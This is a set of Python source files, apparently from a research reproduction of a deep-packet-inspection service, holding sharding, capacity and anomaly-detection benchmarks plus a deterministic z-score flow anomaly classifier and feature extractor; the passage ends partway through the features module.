        "sharded/process": lambda: run_sharded("process"),
    }
    best = {name: 0.0 for name in rows}
    for name, runner in rows.items():  # warm-up: builds kernels and pools
        runner()
    for _ in range(rounds):
        for name, runner in rows.items():
            best[name] = max(best[name], runner())
    reference = best["monolithic/reference"]

    plan = sharded["serial"].plan
    entry = {
        "shard_kernel": shard_kernel,
        "total_bytes": total_bytes,
        "pool_workers": sharded["process"]._kernel._backend.workers,
        "plan": {
            "strategy": plan.strategy,
            "seed": plan.seed,
            "shard_costs": plan.shard_costs(),
            "balance_ratio": round(plan.balance_ratio(), 4),
        },
        "rows": {
            name: {
                "mbps": round(mbps, 2),
                "speedup_vs_reference": (
                    round(mbps / reference, 2) if reference else None
                ),
            }
            for name, mbps in best.items()
        },
    }
    for automaton in sharded.values():
        automaton.shutdown()
    return entry


def run_sharding_benchmark(
    pattern_count: int = 2000,
    packets: int = 60,
    rounds: int = 5,
    shards: int = 4,
    configs=ABLATION_CONFIGS,
) -> dict:
    """The full sharding ablation; returns the BENCH_sharding.json payload."""
    results: dict = {
        "benchmark": "sharding",
        "config": {
            "pattern_count": pattern_count,
            "packets": packets,
            "rounds": rounds,
            "shards": shards,
            "trace_style": "http",
            "match_rate": 0.08,
            "cpu_count": os.cpu_count(),
        },
        "corpora": {},
    }
    for corpus, shard_kernel in configs:
        results["corpora"][corpus] = _run_corpus(
            corpus, shard_kernel, pattern_count, packets, rounds, shards
        )
    return results


def format_sharding_results(results: dict) -> str:
    """Aligned text table of one :func:`run_sharding_benchmark` output."""
    config = results["config"]
    lines = [
        f"sharding ablation — {config['pattern_count']} patterns, "
        f"{config['packets']} packets ({config['trace_style']}), "
        f"{config['shards']} shards, best of {config['rounds']} "
        f"interleaved rounds, {config['cpu_count']} cpus"
    ]
    for corpus, entry in results["corpora"].items():
        plan = entry["plan"]
        lines.append(
            f"  {corpus} (shard kernel {entry['shard_kernel']}, "
            f"{entry['pool_workers']} pool workers, "
            f"balance {plan['balance_ratio']:.3f}):"
        )
        for name, numbers in entry["rows"].items():
            speedup = numbers["speedup_vs_reference"]
            speedup_text = (
                f"{speedup:6.2f}x" if speedup is not None else "   n/a"
            )
            lines.append(
                f"    {name:22} {numbers['mbps']:10.2f} Mbps  {speedup_text}"
            )
    return "\n".join(lines)
