"""End-to-end capacity curves: concurrent flows vs p99 latency/throughput.

For each flow-count step the same seeded :class:`~repro.load.profiles.
LoadSpec` runs twice — static provisioning (``initial_instances`` fixed)
and autoscaled (elastic pool up to ``max_instances``) — and the curve
records modeled p99 latency, served throughput and whether the run
*sustained* the SLO.  "Sustained" means the steady-state tail met the SLO:
every epoch in the final third of the run (at least three epochs) has
p99 <= SLO.  Early warm-up epochs are cheap to pass and would flatter the
static baseline; the tail is where an undersized pool drowns in backlog.

The queueing model is deterministic (see :mod:`repro.load.driver`), so the
headline — the autoscaled pool sustaining strictly more concurrent flows
within SLO than static provisioning — is a structural property of the
chosen rates, not a property of a quiet CI machine.
"""

from __future__ import annotations

from typing import Any, Sequence

from repro.bench.kernels import write_results
from repro.load.driver import LoadRunResult, run_load_scenario
from repro.load.profiles import LoadSpec

#: Default concurrent-flow sweep.  With the default 40 Mbps modeled
#: per-instance rate the single static instance saturates mid-sweep.
FLOW_STEPS = (200, 600, 1200, 2000)

SCHEMA_VERSION = 1


def _steady_state_epochs(result: LoadRunResult) -> list[Any]:
    reports = result.epochs
    tail = max(3, len(reports) // 3)
    return reports[-tail:]


def sustained_within_slo(result: LoadRunResult) -> bool:
    """True when every steady-state epoch met the p99 SLO."""
    tail = _steady_state_epochs(result)
    if not tail:
        return False
    slo = result.spec.slo_seconds
    return all(report.p99_latency_seconds <= slo for report in tail)


def _curve_point(result: LoadRunResult, flows: int) -> dict[str, Any]:
    tail = _steady_state_epochs(result)
    tail_p99 = max(
        (report.p99_latency_seconds for report in tail), default=0.0
    )
    return {
        "flows": flows,
        "p99_ms": round(result.overall_p99_ms, 3),
        "steady_state_p99_ms": round(tail_p99 * 1e3, 3),
        "throughput_mbps": round(result.throughput_mbps, 3),
        "slo_violations": result.total_slo_violations,
        "packets": result.total_packets,
        "matches": result.total_matches,
        "within_slo": sustained_within_slo(result),
        "peak_instances": max(
            (report.alive_instances for report in result.epochs), default=0
        ),
        "actions": (
            len(result.autoscaler.events)
            if result.autoscaler is not None
            else 0
        ),
        "digest": result.digest,
    }


def run_e2e_benchmark(
    flow_steps: Sequence[int] = FLOW_STEPS,
    *,
    epochs: int = 18,
    seed: int = 7,
    profile: str = "mixed",
    slo_ms: float = 50.0,
    rate_mbps: float = 40.0,
    max_instances: int = 6,
    max_packets_per_epoch: int = 5000,
) -> dict[str, Any]:
    """The full capacity sweep; returns the BENCH_e2e.json payload."""
    curves: dict[str, list[dict[str, Any]]] = {"static": [], "autoscaled": []}
    for flows in flow_steps:
        spec = LoadSpec(
            profile_mix=profile,
            flows=flows,
            epochs=epochs,
            seed=seed,
            slo_ms=slo_ms,
            rate_mbps=rate_mbps,
            max_packets_per_epoch=max_packets_per_epoch,
        )
        static = run_load_scenario(spec)
        autoscaled = run_load_scenario(
            spec, autoscale=True, max_instances=max_instances
        )
        curves["static"].append(_curve_point(static, flows))
        curves["autoscaled"].append(_curve_point(autoscaled, flows))

    def _max_within(points: list[dict[str, Any]]) -> int:
        within = [p["flows"] for p in points if p["within_slo"]]
        return max(within) if within else 0

    static_capacity = _max_within(curves["static"])
    autoscaled_capacity = _max_within(curves["autoscaled"])
    return {
        "benchmark": "e2e",
        "schema_version": SCHEMA_VERSION,
        "config": {
            "flow_steps": list(flow_steps),
            "epochs": epochs,
            "seed": seed,
            "profile": profile,
            "slo_ms": slo_ms,
            "rate_mbps": rate_mbps,
            "max_instances": max_instances,
            "max_packets_per_epoch": max_packets_per_epoch,
        },
        "curves": curves,
        "headline": {
            "static_max_flows_within_slo": static_capacity,
            "autoscaled_max_flows_within_slo": autoscaled_capacity,
            "autoscaled_sustains_more": autoscaled_capacity > static_capacity,
        },
    }


def validate_e2e_schema(results: dict[str, Any]) -> list[str]:
    """Structural check of a BENCH_e2e.json payload; returns problems."""
    problems: list[str] = []
    if results.get("benchmark") != "e2e":
        problems.append("benchmark key must be 'e2e'")
    if not isinstance(results.get("schema_version"), int):
        problems.append("schema_version must be an int")
    config = results.get("config")
    if not isinstance(config, dict) or "flow_steps" not in config:
        problems.append("config.flow_steps missing")
    curves = results.get("curves")
    if not isinstance(curves, dict):
        problems.append("curves missing")
        curves = {}
    for mode in ("static", "autoscaled"):
        points = curves.get(mode)
        if not isinstance(points, list) or not points:
            problems.append(f"curves.{mode} missing or empty")
            continue
        for point in points:
            for key in (
                "flows",
                "p99_ms",
                "steady_state_p99_ms",
                "throughput_mbps",
                "within_slo",
                "digest",
            ):
                if key not in point:
                    problems.append(f"curves.{mode} point missing {key!r}")
                    break
    headline = results.get("headline")
    if not isinstance(headline, dict) or (
        "autoscaled_sustains_more" not in headline
    ):
        problems.append("headline.autoscaled_sustains_more missing")
    return problems


def format_e2e_results(results: dict[str, Any]) -> str:
    """Aligned text table of one :func:`run_e2e_benchmark` output."""
    config = results["config"]
    lines = [
        f"e2e capacity curves — profile {config['profile']}, "
        f"SLO {config['slo_ms']}ms, rate {config['rate_mbps']} Mbps/instance, "
        f"{config['epochs']} epochs, seed {config['seed']}"
    ]
    for mode in ("static", "autoscaled"):
        lines.append(f"  {mode}:")
        for point in results["curves"][mode]:
            slo_text = "within SLO" if point["within_slo"] else "BREACHED"
            lines.append(
                f"    {point['flows']:>7} flows  "
                f"p99 {point['steady_state_p99_ms']:>9.2f} ms  "
                f"{point['throughput_mbps']:>8.2f} Mbps  "
                f"{point['peak_instances']} instances  {slo_text}"
            )
    headline = results["headline"]
    lines.append(
        f"  headline: autoscaled sustains "
        f"{headline['autoscaled_max_flows_within_slo']} flows within SLO vs "
        f"{headline['static_max_flows_within_slo']} static "
        f"(strictly more: {headline['autoscaled_sustains_more']})"
    )
    return "\n".join(lines)


__all__ = [
    "FLOW_STEPS",
    "format_e2e_results",
    "run_e2e_benchmark",
    "sustained_within_slo",
    "validate_e2e_schema",
    "write_results",
]
