"""Detection-quality + overhead benchmark for the anomaly layer.

Three questions, one ``BENCH_anomaly.json`` payload:

* **Detection quality** — calibrate the classifier on a seeded
  benign-only run, then classify a seeded benign-http/mirai-burst mix;
  the generator's flow→profile labels are ground truth, so precision and
  recall are exact, regression-gated numbers (the floor is ≥0.9 on both).
* **Overhead** — the feature extractor rides the inspect hot path, so its
  cost is measured chunk-interleaved: the same packet stream runs in
  100-packet chunks, each chunk timed back-to-back with and without the
  observer (order alternating per chunk and per round), and the headline
  is the median of per-round ratios; the acceptance bar is <5%.
* **Reproducibility** — the detection phase runs twice; verdict digests
  must match bit-for-bit (cross-kernel/backend invariance is covered by
  the differential harness's feature digest, not here).

Wall-clock timing appears *only* in the overhead section — detection and
reproducibility run on the simulator clock like every other load run.
"""

from __future__ import annotations

import gc
import time
from typing import Any

from repro.anomaly import (
    AnomalyClassifier,
    FeatureExtractor,
    features_digest,
    verdict_digest,
)
from repro.bench.kernels import write_results
from repro.load.driver import LoadDriver
from repro.load.generator import LoadGenerator
from repro.load.profiles import LoadSpec

SCHEMA_VERSION = 1

#: The profile whose flows count as true anomalies in the labeled mix.
ATTACK_PROFILE = "mirai-burst"


def _detection_run(
    spec: LoadSpec, classifier: "AnomalyClassifier | None"
) -> LoadDriver:
    driver = LoadDriver(spec, anomaly=True, anomaly_classifier=classifier)
    driver.run()
    return driver


def detection_quality(
    *,
    flows: int = 400,
    epochs: int = 8,
    seed: int = 7,
    threshold: float = 5.0,
    min_packets: int = 2,
    mix: str = "web-flood",
    calibration_profile: str = "benign-http",
) -> dict[str, Any]:
    """Calibrate on benign, classify the labeled mix, score exactly.

    Returns the ``detection`` + ``reproducibility`` sections (the
    classifier is fitted once; the detection run happens twice so verdict
    bit-reproducibility is part of the same measurement).
    """
    calibration = _detection_run(
        LoadSpec(profile_mix=calibration_profile, flows=flows, epochs=epochs,
                 seed=seed),
        None,
    )
    classifier = AnomalyClassifier(
        threshold=threshold, min_packets=min_packets, seed=seed
    )
    fitted = classifier.fit(calibration.anomaly.features_map())

    mixed_spec = LoadSpec(profile_mix=mix, flows=flows, epochs=epochs, seed=seed)
    first = _detection_run(mixed_spec, classifier)
    second = _detection_run(mixed_spec, classifier)
    verdicts = first.anomaly.verdicts()
    digest_first = verdict_digest(verdicts)
    digest_second = verdict_digest(second.anomaly.verdicts())

    generator = first.generator
    tp = fp = fn = tn = 0
    for verdict in verdicts:
        is_attack = generator.profile_name_of(verdict.flow_key) == ATTACK_PROFILE
        if verdict.anomalous and is_attack:
            tp += 1
        elif verdict.anomalous:
            fp += 1
        elif is_attack:
            fn += 1
        else:
            tn += 1
    precision = tp / (tp + fp) if tp + fp else 1.0
    recall = tp / (tp + fn) if tp + fn else 1.0
    f1 = (
        2 * precision * recall / (precision + recall)
        if precision + recall
        else 0.0
    )
    return {
        "detection": {
            "calibration_flows": fitted,
            "scored_flows": len(verdicts),
            "true_anomalies": tp + fn,
            "flagged": tp + fp,
            "tp": tp,
            "fp": fp,
            "fn": fn,
            "tn": tn,
            "precision": round(precision, 4),
            "recall": round(recall, 4),
            "f1": round(f1, 4),
        },
        "reproducibility": {
            "verdict_digest": digest_first,
            "digests_match": digest_first == digest_second,
            "baseline_digest": classifier.baseline_digest(),
            "feature_digest": features_digest(
                first.anomaly.features_map()
            ),
        },
    }


def measure_overhead(
    *,
    packets: int = 600,
    rounds: int = 15,
    seed: int = 7,
    mix: str = "web-flood",
    flows: int = 200,
) -> dict[str, Any]:
    """Inspect-only vs inspect+observe over identical packets.

    One shared instance scans both loops so kernel caches and flow-table
    state cannot favor either side, and the delta charged to the anomaly
    layer is exactly what the driver's epoch loop pays: payload sizes are
    precomputed (the queueing model needs them regardless) and both sides
    sum per-packet matches (the epoch report needs that regardless), so
    the only difference is the ``observe()`` call itself.  The deferred
    accumulator fold runs off the hot path (at the epoch boundary in the
    driver); it is timed separately and reported as ``fold_seconds``.

    The statistic is the **median of per-round obs/base ratios**, where
    each round interleaves the two sides at *chunk* granularity: every
    ~100-packet chunk is timed base-then-obs (order alternating per chunk
    and per round), so the paired measurements sit within a couple of
    milliseconds of each other and CPU-steal epochs, frequency drift and
    cache effects cancel instead of skewing one side.  The median then
    shrugs off any round that was preempted outright, and GC is frozen
    around the timed region so collection pauses cannot land
    asymmetrically.
    """
    from repro.load.driver import build_load_controller

    spec = LoadSpec(profile_mix=mix, flows=flows, epochs=4, seed=seed)
    batch_items: list[tuple[int, int, bytes, int]] = []
    for batch in LoadGenerator(spec).batches():
        batch_items.extend(
            (flow_id, chain_id, payload, len(payload))
            for flow_id, chain_id, payload, _ in batch.items
        )
        if len(batch_items) >= packets:
            break
    batch_items = batch_items[:packets]

    controller = build_load_controller()
    controller.instances.provision("bench-anomaly", kernel="flat")
    instance = controller.instances["bench-anomaly"]

    def run_chunk(observe, lo: int, hi: int) -> int:
        matches = 0
        for index in range(lo, hi):
            flow_id, chain_id, payload, size = batch_items[index]
            output = instance.inspect(
                payload, chain_id=chain_id, flow_key=flow_id, now=float(index)
            )
            packet_matches = sum(
                len(hits) for hits in output.matches.values()
            )
            matches += packet_matches
            if observe is not None:
                observe(
                    flow_id,
                    chain_id=chain_id,
                    size=size,
                    matches=packet_matches,
                    now=float(index),
                )
        return matches

    chunk = 100
    run_chunk(None, 0, len(batch_items))  # warm caches and flow state
    ratios: list[float] = []
    base_best = obs_best = float("inf")
    fold_best = float("inf")
    gc_was_enabled = gc.isenabled()
    gc.disable()
    try:
        for round_index in range(rounds):
            observer = FeatureExtractor()
            base_seconds = obs_seconds = 0.0
            gc.collect()
            for lo in range(0, len(batch_items), chunk):
                hi = min(lo + chunk, len(batch_items))
                # Alternate which side scans the chunk first: the second
                # scan of the same packets sees warmer caches, and the
                # alternation spreads that advantage evenly.
                obs_first = (lo // chunk + round_index) % 2 == 0
                for is_obs in ((True, False) if obs_first else (False, True)):
                    observe = observer.observe if is_obs else None
                    start = time.perf_counter()
                    run_chunk(observe, lo, hi)
                    elapsed = time.perf_counter() - start
                    if is_obs:
                        obs_seconds += elapsed
                    else:
                        base_seconds += elapsed
            ratios.append(obs_seconds / base_seconds)
            base_best = min(base_best, base_seconds)
            obs_best = min(obs_best, obs_seconds)
            # The epoch-boundary work: fold the recorded metadata.
            start = time.perf_counter()
            tracked = len(observer)
            fold_best = min(fold_best, time.perf_counter() - start)
    finally:
        if gc_was_enabled:
            gc.enable()
    ratios.sort()
    middle = len(ratios) // 2
    if len(ratios) % 2:
        median_ratio = ratios[middle]
    else:
        median_ratio = (ratios[middle - 1] + ratios[middle]) / 2.0
    overhead_pct = (median_ratio - 1.0) * 100.0
    return {
        "packets": len(batch_items),
        "rounds": rounds,
        "tracked_flows": tracked,
        "inspect_seconds": round(base_best, 6),
        "inspect_with_anomaly_seconds": round(obs_best, 6),
        "fold_seconds": round(fold_best, 6),
        "overhead_pct": round(overhead_pct, 3),
    }


def run_anomaly_benchmark(
    *,
    flows: int = 400,
    epochs: int = 8,
    seed: int = 7,
    threshold: float = 5.0,
    min_packets: int = 2,
    mix: str = "web-flood",
    calibration_profile: str = "benign-http",
    overhead_packets: int = 600,
    rounds: int = 15,
) -> dict[str, Any]:
    """The full benchmark; returns the BENCH_anomaly.json payload."""
    quality = detection_quality(
        flows=flows,
        epochs=epochs,
        seed=seed,
        threshold=threshold,
        min_packets=min_packets,
        mix=mix,
        calibration_profile=calibration_profile,
    )
    overhead = measure_overhead(
        packets=overhead_packets, rounds=rounds, seed=seed, mix=mix
    )
    detection = quality["detection"]
    meets_floor = (
        detection["precision"] >= 0.9
        and detection["recall"] >= 0.9
        and overhead["overhead_pct"] < 5.0
        and quality["reproducibility"]["digests_match"]
    )
    return {
        "benchmark": "anomaly",
        "schema_version": SCHEMA_VERSION,
        "config": {
            "flows": flows,
            "epochs": epochs,
            "seed": seed,
            "threshold": threshold,
            "min_packets": min_packets,
            "mix": mix,
            "calibration_profile": calibration_profile,
            "attack_profile": ATTACK_PROFILE,
            "overhead_packets": overhead_packets,
            "rounds": rounds,
        },
        "detection": detection,
        "overhead": overhead,
        "reproducibility": quality["reproducibility"],
        "headline": {
            "precision": detection["precision"],
            "recall": detection["recall"],
            "overhead_pct": overhead["overhead_pct"],
            "digests_match": quality["reproducibility"]["digests_match"],
            "meets_floor": meets_floor,
        },
    }


def validate_anomaly_schema(results: dict[str, Any]) -> list[str]:
    """Structural check of a BENCH_anomaly.json payload; returns problems."""
    problems: list[str] = []
    if results.get("benchmark") != "anomaly":
        problems.append("benchmark key must be 'anomaly'")
    if not isinstance(results.get("schema_version"), int):
        problems.append("schema_version must be an int")
    config = results.get("config")
    if not isinstance(config, dict) or "threshold" not in config:
        problems.append("config.threshold missing")
    detection = results.get("detection")
    if not isinstance(detection, dict):
        problems.append("detection section missing")
    else:
        for key in ("precision", "recall", "tp", "fp", "fn", "scored_flows"):
            if key not in detection:
                problems.append(f"detection.{key} missing")
    overhead = results.get("overhead")
    if not isinstance(overhead, dict) or "overhead_pct" not in overhead:
        problems.append("overhead.overhead_pct missing")
    reproducibility = results.get("reproducibility")
    if not isinstance(reproducibility, dict) or (
        "verdict_digest" not in reproducibility
    ):
        problems.append("reproducibility.verdict_digest missing")
    headline = results.get("headline")
    if not isinstance(headline, dict) or "meets_floor" not in headline:
        problems.append("headline.meets_floor missing")
    return problems


def format_anomaly_results(results: dict[str, Any]) -> str:
    """Aligned text rendering of one :func:`run_anomaly_benchmark` output."""
    config = results["config"]
    detection = results["detection"]
    overhead = results["overhead"]
    reproducibility = results["reproducibility"]
    headline = results["headline"]
    lines = [
        f"anomaly detection — mix {config['mix']} "
        f"(calibrated on {config['calibration_profile']}), "
        f"{config['flows']} flows, {config['epochs']} epochs, "
        f"seed {config['seed']}, threshold {config['threshold']}",
        f"  detection: {detection['scored_flows']} flows scored, "
        f"{detection['true_anomalies']} true anomalies, "
        f"{detection['flagged']} flagged "
        f"(tp {detection['tp']}, fp {detection['fp']}, fn {detection['fn']})",
        f"  precision {detection['precision']:.3f}  "
        f"recall {detection['recall']:.3f}  f1 {detection['f1']:.3f}",
        f"  overhead: {overhead['inspect_seconds'] * 1e3:.2f} ms inspect-only "
        f"vs {overhead['inspect_with_anomaly_seconds'] * 1e3:.2f} ms with "
        f"anomaly over {overhead['packets']} packets "
        f"-> {overhead['overhead_pct']:+.2f}%",
        f"  reproducibility: digests match: "
        f"{reproducibility['digests_match']} "
        f"(verdicts {reproducibility['verdict_digest'][:16]}...)",
        f"  headline: precision {headline['precision']:.3f}, "
        f"recall {headline['recall']:.3f}, "
        f"overhead {headline['overhead_pct']:+.2f}%, "
        f"meets floor: {headline['meets_floor']}",
    ]
    return "\n".join(lines)


__all__ = [
    "ATTACK_PROFILE",
    "detection_quality",
    "format_anomaly_results",
    "measure_overhead",
    "run_anomaly_benchmark",
    "validate_anomaly_schema",
    "write_results",
]
