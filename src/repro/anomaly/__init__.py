"""Flow-feature anomaly detection as a scan-once consumer.

The paper's economics argument is that the DPI service scans each payload
once and *many* consumers reuse the results.  Exact-match middleboxes
(IDS, AV) are the first consumer class; this package adds the second:
statistical anomaly detection built entirely from the service's match
metadata and per-packet accounting — packet/byte rates, inter-arrival
deltas, size histograms, match density — without ever re-reading a
payload.

Three layers:

* :mod:`repro.anomaly.features` — streaming per-flow accumulators and the
  canonical :class:`~repro.anomaly.features.FlowFeatures` vector;
* :mod:`repro.anomaly.classifier` — a seeded, deterministic stdlib
  classifier (z-score thresholds over an EWMA or trained-centroid
  baseline);
* :mod:`repro.anomaly.middlebox` — :class:`~repro.anomaly.middlebox.
  AnomalyDetectorMiddlebox`, a read-only middlebox that subscribes to
  inspection results like any other chain consumer and publishes
  aggregate-only telemetry.

Verdicts feed the autoscaler's isolation policy and the MCA² stress
monitor so flagged heavy hitters are steered to dedicated instances.
"""

from repro.anomaly.classifier import (
    AnomalyClassifier,
    AnomalyVerdict,
    verdict_digest,
)
from repro.anomaly.features import (
    FEATURE_NAMES,
    SIZE_BIN_BOUNDS,
    FeatureExtractor,
    FlowFeatures,
    features_digest,
)
from repro.anomaly.middlebox import AnomalyDetectorMiddlebox

__all__ = [
    "FEATURE_NAMES",
    "SIZE_BIN_BOUNDS",
    "AnomalyClassifier",
    "AnomalyDetectorMiddlebox",
    "AnomalyVerdict",
    "FeatureExtractor",
    "FlowFeatures",
    "features_digest",
    "verdict_digest",
]
