"""A seeded, deterministic stdlib anomaly classifier over flow features.

Scoring is per-dimension z-scores against a *frozen* baseline: the verdict
for a flow is the largest absolute z across the feature vector, flagged
when it crosses ``threshold``.  Two baseline modes:

* ``centroid`` — :meth:`AnomalyClassifier.fit` computes the exact
  per-dimension mean/std of a (benign) training population in one pass;
* ``ewma`` — :meth:`AnomalyClassifier.calibrate` folds populations into
  exponentially weighted running means/variances, so the baseline can
  track slow drift across calibration windows.

Classification never mutates the baseline — a burst of anomalies cannot
poison the notion of normal mid-window.  Everything is deterministic:
flows are scored in sorted-key order (float summation order is part of
the bit-for-bit contract), the only use of ``seed`` is a deterministic
stride subsample when a training population exceeds ``max_fit_flows``,
and there is no wall clock or RNG anywhere.
"""

from __future__ import annotations

import hashlib
import json
import math
from dataclasses import dataclass
from typing import Any, Hashable, Iterable, Mapping

from repro.anomaly.features import FEATURE_NAMES, FlowFeatures

MODES = ("centroid", "ewma")

#: Guards against zero/near-zero training variance blowing up z-scores:
#: sigma is floored at ``max(std, |mean| * _REL_SIGMA_FLOOR, _ABS_SIGMA_FLOOR)``.
_REL_SIGMA_FLOOR = 0.05
_ABS_SIGMA_FLOOR = 1e-6


@dataclass(frozen=True)
class AnomalyVerdict:
    """One flow's classification outcome."""

    flow_key: Hashable
    chain_id: int
    packets: int
    score: float
    anomalous: bool
    top_feature: str

    def to_dict(self) -> dict[str, Any]:
        return {
            "flow_key": repr(self.flow_key),
            "chain_id": self.chain_id,
            "packets": self.packets,
            "score": self.score,
            "anomalous": self.anomalous,
            "top_feature": self.top_feature,
        }


class AnomalyClassifier:
    """Z-score thresholding over an EWMA or trained-centroid baseline."""

    def __init__(
        self,
        *,
        mode: str = "centroid",
        threshold: float = 4.0,
        alpha: float = 0.2,
        min_packets: int = 2,
        seed: int = 7,
        max_fit_flows: int = 100_000,
    ) -> None:
        if mode not in MODES:
            raise ValueError(f"unknown mode {mode!r} (known: {MODES})")
        if threshold <= 0:
            raise ValueError(f"threshold must be positive: {threshold}")
        if not 0.0 < alpha <= 1.0:
            raise ValueError(f"alpha must be in (0, 1]: {alpha}")
        if max_fit_flows < 1:
            raise ValueError(f"max_fit_flows must be positive: {max_fit_flows}")
        self.mode = mode
        self.threshold = threshold
        self.alpha = alpha
        self.min_packets = min_packets
        self.seed = seed
        self.max_fit_flows = max_fit_flows
        self._mean: list[float] | None = None
        self._var: list[float] | None = None
        self.fitted_flows = 0

    # -- baselines --------------------------------------------------------

    @property
    def fitted(self) -> bool:
        return self._mean is not None

    def _training_rows(
        self, features: Mapping[Hashable, FlowFeatures]
    ) -> list[FlowFeatures]:
        keys = sorted(features, key=repr)
        if len(keys) > self.max_fit_flows:
            # Deterministic stride subsample; the seed picks the phase.
            stride = -(-len(keys) // self.max_fit_flows)
            keys = keys[self.seed % stride :: stride]
        return [features[key] for key in keys]

    def fit(self, features: Mapping[Hashable, FlowFeatures]) -> int:
        """(Re)build the baseline from a training population.

        ``centroid`` mode computes exact per-dimension mean/std;
        ``ewma`` mode delegates to :meth:`calibrate`.  Returns the number
        of flows used.
        """
        rows = self._training_rows(features)
        if not rows:
            raise ValueError("cannot fit on an empty feature population")
        if self.mode == "ewma":
            return self.calibrate(rows)
        dims = len(FEATURE_NAMES)
        sums = [0.0] * dims
        squares = [0.0] * dims
        for row in rows:
            for index, value in enumerate(row.vector()):
                sums[index] += value
                squares[index] += value * value
        count = len(rows)
        self._mean = [total / count for total in sums]
        self._var = [
            max(0.0, squares[index] / count - self._mean[index] ** 2)
            for index in range(dims)
        ]
        self.fitted_flows = count
        return count

    def calibrate(self, features: Iterable[FlowFeatures]) -> int:
        """Fold a population into the EWMA baseline (``ewma`` mode only)."""
        if self.mode != "ewma":
            raise TypeError(
                f"calibrate() requires mode='ewma' (this one is {self.mode!r})"
            )
        rows = (
            features
            if isinstance(features, list)
            else sorted(features, key=lambda row: repr(row.flow_key))
        )
        count = 0
        for row in rows:
            vector = row.vector()
            if self._mean is None:
                self._mean = list(vector)
                self._var = [0.0] * len(vector)
            else:
                assert self._var is not None
                for index, value in enumerate(vector):
                    diff = value - self._mean[index]
                    step = self.alpha * diff
                    self._mean[index] += step
                    self._var[index] = (1.0 - self.alpha) * (
                        self._var[index] + diff * step
                    )
            count += 1
        self.fitted_flows += count
        return count

    def baseline(self) -> dict[str, dict[str, float]]:
        """The frozen baseline per feature name (mean and sigma floor)."""
        if self._mean is None or self._var is None:
            raise RuntimeError("classifier is not fitted")
        view = {}
        for index, name in enumerate(FEATURE_NAMES):
            view[name] = {
                "mean": self._mean[index],
                "sigma": self._sigma(index),
            }
        return view

    def baseline_digest(self) -> str:
        """Canonical digest of the baseline (reproducibility checks)."""
        if self._mean is None or self._var is None:
            raise RuntimeError("classifier is not fitted")
        payload = json.dumps(
            {
                "mode": self.mode,
                "threshold": repr(self.threshold),
                "mean": [repr(value) for value in self._mean],
                "var": [repr(value) for value in self._var],
            },
            sort_keys=True,
            separators=(",", ":"),
        )
        return hashlib.sha256(payload.encode()).hexdigest()

    def _sigma(self, index: int) -> float:
        assert self._mean is not None and self._var is not None
        std = math.sqrt(self._var[index]) if self._var[index] > 0.0 else 0.0
        return max(
            std, abs(self._mean[index]) * _REL_SIGMA_FLOOR, _ABS_SIGMA_FLOOR
        )

    # -- scoring ----------------------------------------------------------

    def score(self, features: FlowFeatures) -> tuple[float, str]:
        """Largest absolute z across dimensions, plus the dimension name."""
        if self._mean is None or self._var is None:
            raise RuntimeError(
                "classifier is not fitted: call fit()/calibrate() first"
            )
        best = 0.0
        best_name = FEATURE_NAMES[0]
        for index, value in enumerate(features.vector()):
            z = abs(value - self._mean[index]) / self._sigma(index)
            if z > best:
                best = z
                best_name = FEATURE_NAMES[index]
        return best, best_name

    def classify(self, features: FlowFeatures) -> AnomalyVerdict:
        """One flow's verdict; sub-``min_packets`` flows are never flagged."""
        score, top_feature = self.score(features)
        anomalous = (
            features.packets >= self.min_packets and score >= self.threshold
        )
        return AnomalyVerdict(
            flow_key=features.flow_key,
            chain_id=features.chain_id,
            packets=features.packets,
            score=score,
            anomalous=anomalous,
            top_feature=top_feature,
        )

    def classify_all(
        self,
        features: Mapping[Hashable, FlowFeatures],
        *,
        self_calibrate: bool = False,
    ) -> list[AnomalyVerdict]:
        """Verdicts for a whole population, in sorted-key order.

        With ``self_calibrate`` an unfitted classifier scores each flow
        against the population itself (a temporary centroid baseline that
        is *not* stored) — useful for one-shot outlier reports; explicit
        ``fit`` on benign traffic remains the high-recall path.
        """
        if not self.fitted:
            if not self_calibrate:
                raise RuntimeError(
                    "classifier is not fitted: fit()/calibrate() first or "
                    "pass self_calibrate=True"
                )
            if not features:
                return []
            scratch = AnomalyClassifier(
                mode="centroid",
                threshold=self.threshold,
                min_packets=self.min_packets,
                seed=self.seed,
                max_fit_flows=self.max_fit_flows,
            )
            scratch.fit(features)
            return scratch.classify_all(features)
        return [
            self.classify(features[key])
            for key in sorted(features, key=repr)
        ]


def verdict_digest(verdicts: Iterable[AnomalyVerdict]) -> str:
    """A canonical digest over verdicts (bit-reproducibility contract)."""
    canonical = [
        {
            "flow": repr(verdict.flow_key),
            "chain": verdict.chain_id,
            "packets": verdict.packets,
            "score": repr(verdict.score),
            "anomalous": verdict.anomalous,
            "top": verdict.top_feature,
        }
        for verdict in sorted(verdicts, key=lambda v: repr(v.flow_key))
    ]
    payload = json.dumps(canonical, sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(payload.encode()).hexdigest()


__all__ = ["MODES", "AnomalyClassifier", "AnomalyVerdict", "verdict_digest"]
