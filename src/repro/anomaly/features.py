"""Streaming per-flow feature extraction from DPI match metadata.

The extractor never sees payload bytes — only the per-packet facts the DPI
service already produces while scanning once: payload size, match count,
chain id and the (simulated) observation time.  ``observe`` sits on the
inspect hot path, so it does the minimum possible work: append one record
to a pending buffer.  Folding records into per-flow accumulators is
deferred to the first read (``features``/``flow_keys``/…), which in the
load driver means the epoch boundary — the same place the rest of the
epoch accounting runs.  Every accumulator update is O(1) and applied in
arrival order, so features are *by construction* invariant to how packets
are batched and to how flows interleave: the only state is per-flow sums
updated in that flow's own arrival order, regardless of when draining
happens.

``features()`` freezes the accumulators into a :class:`FlowFeatures` row
whose :meth:`~FlowFeatures.vector` is the canonical input to
:class:`~repro.anomaly.classifier.AnomalyClassifier`.  All arithmetic is
plain floats over identical operand sequences, so two extractors fed the
same per-flow observation streams produce bit-identical vectors — that is
what the cross-leg ``features_digest`` in the differential harness pins.
"""

from __future__ import annotations

import hashlib
import json
import math
from bisect import bisect_left
from dataclasses import dataclass
from typing import Any, Hashable, Iterable, Iterator, Mapping

#: Upper bounds of the payload-size histogram bins (bytes); one extra
#: overflow bin catches everything above the last bound.
SIZE_BIN_BOUNDS = (64, 128, 256, 512, 1024)

_HIST_NAMES = tuple(
    f"hist_le{bound}" for bound in SIZE_BIN_BOUNDS
) + (f"hist_gt{SIZE_BIN_BOUNDS[-1]}",)

#: Canonical feature order; ``FlowFeatures.vector()`` follows it exactly.
FEATURE_NAMES = (
    "pkt_rate",
    "byte_rate",
    "mean_size",
    "size_cv",
    "iat_mean",
    "iat_cv",
    "match_density",
    "matches_per_kb",
) + _HIST_NAMES


@dataclass(frozen=True)
